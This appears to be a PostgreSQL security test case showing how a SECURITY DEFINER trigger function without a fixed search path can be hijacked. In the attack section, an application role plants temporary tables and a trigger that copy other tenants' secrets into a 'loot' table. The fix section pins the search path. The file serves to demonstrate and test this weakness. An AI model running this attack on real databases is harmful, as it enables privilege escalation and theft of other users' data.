-- a trigger function with the rights of a superuser and without a search path, on a table that the application role writes

--- setup
CREATE TABLE app.journal(what text); CREATE FUNCTION app.note() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN INSERT INTO journal VALUES (NEW.title); RETURN NEW; END $$;
CREATE TRIGGER note BEFORE INSERT ON app.task FOR EACH ROW EXECUTE FUNCTION app.note();

--- attack
--- as rls_app
SET app.tenant_id='1';
CREATE TEMP TABLE journal (what text); CREATE TEMP TABLE loot (secret text); GRANT ALL ON journal, loot TO PUBLIC;
CREATE FUNCTION pg_temp.grab() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO loot SELECT secret FROM app.project; RETURN NEW; END $$;
CREATE TRIGGER grab BEFORE INSERT ON journal FOR EACH ROW EXECUTE FUNCTION pg_temp.grab();
SET search_path = pg_temp, app;
INSERT INTO app.task(project_id,title) VALUES (1,'x');
SELECT lab.v(lab.n($q$select 1 from loot where secret like 'victim%'$q$)>0,'the temporary table of the caller was written to by a superuser, with a trigger on it');

--- fix
ALTER FUNCTION app.note() SET search_path = pg_catalog, app, pg_temp;
